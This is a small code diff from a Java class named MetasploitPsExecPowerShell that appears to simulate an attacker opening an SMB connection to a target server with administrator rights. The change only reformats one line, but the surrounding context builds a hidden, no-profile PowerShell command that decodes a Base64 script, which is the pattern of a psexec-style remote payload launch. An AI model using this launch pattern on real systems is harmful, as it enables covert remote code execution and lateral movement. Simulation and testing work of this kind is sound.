@@ -61,8 +61,7 @@ final class MetasploitPsExecPowerShell {
         var from = stage.outsider("attacker", client);
         var target = stage.server("target");
         var connection = SmbConnection.openFromOutside(from, target, stage.administrator());
-        var packed =
-                EncodedCommand.encode(EncodedCommand.SCRIPT.getBytes(StandardCharsets.UTF_8));
+        var packed = EncodedCommand.encode(EncodedCommand.SCRIPT.getBytes(StandardCharsets.UTF_8));
         var script =
                 "powershell.exe -nop -w hidden -noni -c \"$t=[Text.Encoding]::UTF8.GetString("
                         + "[Convert]::FromBase64String('"
